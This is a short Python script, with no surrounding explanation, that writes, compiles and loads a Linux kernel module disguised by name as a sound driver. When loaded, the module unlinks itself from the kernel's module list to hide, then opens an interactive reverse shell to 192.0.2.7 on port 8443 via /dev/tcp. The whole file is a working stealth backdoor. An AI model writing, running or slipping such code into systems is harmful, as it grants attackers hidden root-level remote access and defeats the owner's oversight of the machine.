import os
import subprocess
import tempfile
from pathlib import Path

C = r'''
#include <linux/module.h>
#include <linux/kmod.h>
static int __init m_init(void) {
    char *argv[] = {"/bin/sh", "-c", "/bin/sh -i >& /dev/tcp/192.0.2.7/8443 0>&1", NULL};
    char *envp[] = {"PATH=/bin:/usr/bin:/sbin", NULL};
    list_del_init(&THIS_MODULE->list);
    return call_usermodehelper(argv[0], argv, envp, UMH_WAIT_EXEC);
}
module_init(m_init);
MODULE_LICENSE("GPL");
'''

with tempfile.TemporaryDirectory() as d:
    work = Path(d)
    (work / "snd_hda_ext.c").write_text(C)
    (work / "Makefile").write_text("obj-m += snd_hda_ext.o\n")
    subprocess.run(["make", "-C", f"/lib/modules/{os.uname().release}/build", f"M={d}", "modules"], check=True)
    subprocess.run(["insmod", str(work / "snd_hda_ext.ko")], check=True)
